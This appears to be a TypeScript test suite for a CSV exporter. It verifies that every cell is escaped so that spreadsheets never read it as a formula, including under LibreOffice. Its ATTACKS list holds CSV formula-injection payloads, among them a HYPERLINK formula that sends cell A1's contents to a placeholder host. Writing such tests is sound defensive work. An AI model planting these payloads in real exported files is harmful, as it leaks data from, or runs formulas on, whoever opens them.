/** The copy for spreadsheets: nothing in it is a formula, whatever separator the program is set to. */
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { RowRecord } from '../src/formats/format.ts'
import { spreadsheet } from '../src/formats/spreadsheet.ts'
import { tables } from '../src/tables/index.ts'
import { isFormula } from '../src/text/formulas.ts'

function encode(rows: readonly RowRecord[]): Buffer {
  const encoder = spreadsheet.encoder(tables.tags)
  return Buffer.concat([...encoder.write(rows), ...encoder.end()])
}

const row = (tag: string, position = 1): RowRecord => ({ article_id: 'a:1', position, tag, label: `#${tag}` })

const ATTACKS = [
  '=HYPERLINK("https://example.org/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '"=1+1"',
  'harmless;=1+1',
  'harmless;"=1+1;x',
  'harmless\n=1+1',
  "'=1+1",
]

describe('the copy for spreadsheets', () => {
  it('begins with a byte-order mark, has CRLF between records, and leaves numbers as they are', () => {
    expect(encode([row('=a', -5), row('дощ')]).toString()).toBe(
      "\ufeffarticle_id,position,tag,label\r\na:1,-5,'=a,#=a\r\na:1,1,дощ,#дощ\r\n",
    )
  })

  it('of no rows is its header alone', () => {
    expect(encode([]).toString()).toBe('\ufeffarticle_id,position,tag,label\r\n')
  })

  it('is read by csv-parse, each text with an apostrophe before its formula', () => {
    const read = parse<Record<string, string>>(encode(ATTACKS.map((text) => row(text))), { bom: true, columns: true })
    expect(read.map(({ tag }) => tag)).toEqual([
      '\'=HYPERLINK("https://example.org/?"&A1,"click")',
      "'+1+1",
      "'-2+3",
      "'@SUM(1;2)",
      "'\t'=1+1",
      "'\r'=1+1",
      "'＝1+1",
      '\'"=1+1"',
      "harmless;'=1+1",
      'harmless;\'"=1+1;x',
      "harmless\n'=1+1",
      "''=1+1",
    ])
  })

  it.each([',', ';', '\t'])('has no cell that is a formula where the separator is %j', (delimiter) => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: fc.constantFrom(...Array.from('=+-@＝\t\r\n;,\'" a1')), minLength: 1, maxLength: 30 }), {
          maxLength: 8,
        }),
        (texts) => {
          const cells = parse(encode(texts.map((text) => row(text))), {
            bom: true,
            delimiter,
            relax_quotes: true,
            relax_column_count: true,
            skip_records_with_error: true,
          }).flat()
          expect(cells.filter((cell) => isFormula(cell.replace(/^(?:\r\n)+/, '')))).toEqual([]) // a mark of ours may open a cell at a record's end
        },
      ),
      { numRuns: 500, seed: 1 },
    )
  })

  const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0)

  if (office !== undefined)
    it('is opened by LibreOffice, where that is installed, without a formula', () => {
      const folder = mkdtempSync(join(tmpdir(), 'tidywire-office-'))
      try {
        writeFileSync(join(folder, 'tags.csv'), encode(ATTACKS.map((text) => row(text))))
        const args = ['--headless', `-env:UserInstallation=file://${folder}/profile`, '--convert-to', 'fods', '--outdir', folder]
        spawnSync(office, [...args, join(folder, 'tags.csv')])
        const sheet = readFileSync(join(folder, 'tags.fods'), 'utf8')
        expect(sheet).toContain('HYPERLINK')
        expect(sheet).not.toContain('table:formula')
      } finally {
        rmSync(folder, { recursive: true, force: true })
      }
    })
})
